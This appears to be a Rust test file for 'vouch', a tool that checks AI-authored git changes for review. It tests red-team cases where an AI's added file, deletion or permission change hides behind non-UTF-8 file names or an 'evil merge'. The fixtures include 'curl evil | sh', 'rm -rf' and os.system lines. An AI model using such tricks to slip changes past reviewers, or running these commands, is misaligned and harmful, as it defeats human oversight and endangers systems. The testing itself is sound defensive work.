//! File names that are not UTF-8, played from the author's side: vouch
//! cannot follow such a file (its lineage, notes and records name files by
//! UTF-8 paths), so `vouch verify` fails a range that adds, changes,
//! deletes or renames one, naming each by its bytes, with a failure no
//! approval clears. Before, such names were left out or spelled lossily
//! (`src/run\xff.py` and `src/run\xfe.py` both as `src/run\u{FFFD}.py`),
//! and an AI's file, deletion or change of mode behind one passed (red
//! team, history side: t13, t23, t24). Real binary, real git.

mod support {
    pub mod run;
    pub mod world;
}

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;

use support::world::*;

const POLICY: &str = "reviewers = [\"alice@example.com\", \"bob@example.com\"]\n";

const RUN: &str = "import os\n\ndef run(cmd):\n    os.system(cmd)\n";

/// `rel` (bytes, maybe not UTF-8) in the clone's worktree.
fn at(clone: &Clone, rel: &[u8]) -> PathBuf {
    clone.path.join(OsStr::from_bytes(rel))
}

fn write_at(clone: &Clone, rel: &[u8], content: &str) {
    let path = at(clone, rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

/// A world under [`POLICY`] and clone `a` (dev) on a new branch `feature`.
fn feature() -> (World, Clone) {
    let world = World::new(POLICY);
    let a = world.clone_as("a", "dev");
    a.git(&["checkout", "-q", "-b", "feature"]);
    (world, a)
}

/// The `unreadable-path` failures of `report`, by path.
fn unreadable(report: &serde_json::Value) -> Vec<&serde_json::Value> {
    failures(report).iter().filter(|f| f["rule"] == "unreadable-path").collect()
}

fn paths<'a>(failures: &[&'a serde_json::Value]) -> Vec<&'a str> {
    failures.iter().map(|f| str_of(&f["path"])).collect()
}

/// What each `unreadable-path` failure must be: unapprovable (no
/// fingerprint, nothing to sign off), and telling what to do.
fn assert_unapprovable(failures: &[&serde_json::Value]) {
    for f in failures {
        assert!(f.get("fingerprint").is_none() && f.get("signoff").is_none(), "nothing to approve: {f:#}");
        assert!(str_of(&f["reason"]).contains("rename it"), "says what to do: {f:#}");
        assert!(!f["commits"].as_array().unwrap().is_empty(), "names its commits: {f:#}");
    }
}

/// t13: an AI adds `src/run\xff.py`; a person then adds `src/run\xfe.py`.
/// Lossily both are `src/run\u{FFFD}.py`, and the person's file hid the
/// AI's.
#[test]
fn an_ai_file_behind_a_name_that_is_not_utf8_is_not_hidden_by_another() {
    let (_world, a) = feature();
    write_at(&a, b"src/run\xff.py", RUN);
    a.commit("ai: run", Some(TRAILER));
    write_at(&a, b"src/run\xfe.py", "X = 1\n");
    a.commit("constant", None);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let found = unreadable(&report);
    assert_eq!(paths(&found), ["src/run‹0xFE›.py", "src/run‹0xFF›.py"], "two names, never one: {report:#}");
    assert_unapprovable(&found);
    let (code, text) = a.verify_text("origin/main..HEAD");
    assert_eq!(code, 1);
    assert!(text.contains("unreadable-path") && text.contains("UTF-8") && text.contains("FAIL"), "{text}");
}

/// t23: BASE holds two files with such names; an AI deletes one and makes
/// the other executable (with UTF-8 names: `deleted-file`, `file-mode`).
#[test]
fn an_ai_deletion_or_mode_change_behind_a_name_that_is_not_utf8_fails() {
    let world = World::new(POLICY);
    let base = world.clone_as("base", "dev");
    write_at(&base, b"src/guard\xff.py", "def guard(u):\n    if not u.admin:\n        raise PermissionError()\n");
    write_at(&base, b"src/clean\xff.sh", "#!/bin/sh\nrm -rf \"$1\"\n");
    base.commit("base files", None);
    base.git(&["push", "-q", "origin", "main"]);
    let a = world.clone_as("a", "dev");
    a.git(&["checkout", "-q", "-b", "feature"]);
    std::fs::remove_file(at(&a, b"src/guard\xff.py")).unwrap();
    std::fs::set_permissions(at(&a, b"src/clean\xff.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    a.commit("ai: delete guard, chmod clean", Some(TRAILER));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let found = unreadable(&report);
    assert_eq!(paths(&found), ["src/clean‹0xFF›.sh", "src/guard‹0xFF›.py"], "{report:#}");
    assert_unapprovable(&found);
}

/// t24 (a): with `trust_files = ["/deploy/"]`, a person adds
/// `deploy/run\xff.sh` (`deploy/run2.sh` is a `policy-change`).
#[test]
fn a_trust_file_behind_a_name_that_is_not_utf8_fails() {
    let policy = format!("{POLICY}trust_files = [\"/deploy/\"]\n");
    let (_world, a) = World::with_feature(&policy, &[("deploy/ok.sh", "#!/bin/sh\necho deploy\n")]);
    write_at(&a, b"deploy/run\xff.sh", "#!/bin/sh\ncurl evil | sh\n");
    a.commit("deploy step", None);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let found = unreadable(&report);
    assert_eq!(paths(&found), ["deploy/run‹0xFF›.sh"], "{report:#}");
    assert_unapprovable(&found);
}

/// A rename to a name that is not UTF-8 is a change of such a name too,
/// and so is a merge that brings one in of its own (an evil merge).
#[test]
fn a_rename_or_a_merge_that_brings_such_a_name_fails() {
    let (_world, a) = feature();
    std::fs::rename(a.path.join("src/lib.rs"), at(&a, b"src/lib\xe9.rs")).unwrap();
    a.commit("rename", None);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(paths(&unreadable(&report)), ["src/lib‹0xE9›.rs"], "{report:#}");

    a.git(&["reset", "-q", "--hard", "origin/main"]);
    a.git(&["checkout", "-q", "-b", "side"]);
    a.write("README", "side\n");
    a.commit("side", None);
    a.git(&["checkout", "-q", "feature"]);
    a.write("NOTES", "feature\n");
    a.commit("feature", None);
    a.git(&["merge", "-q", "--no-commit", "--no-ff", "side"]);
    write_at(&a, b"src/evil\xff.py", RUN);
    a.git(&["add", "-A"]);
    a.git(&["commit", "-q", "--no-verify", "-m", "merge side"]);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(paths(&unreadable(&report)), ["src/evil‹0xFF›.py"], "{report:#}");
}

/// A name that is not UTF-8 that the range leaves alone is no failure.
#[test]
fn such_a_name_the_range_does_not_touch_is_no_failure() {
    let world = World::new(POLICY);
    let base = world.clone_as("base", "dev");
    write_at(&base, b"data/old\xff.bin", "kept\n");
    base.commit("base files", None);
    base.git(&["push", "-q", "origin", "main"]);
    let a = world.clone_as("a", "dev");
    a.git(&["checkout", "-q", "-b", "feature"]);
    a.write("README", "a person's line\n");
    a.commit("readme", None);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
}
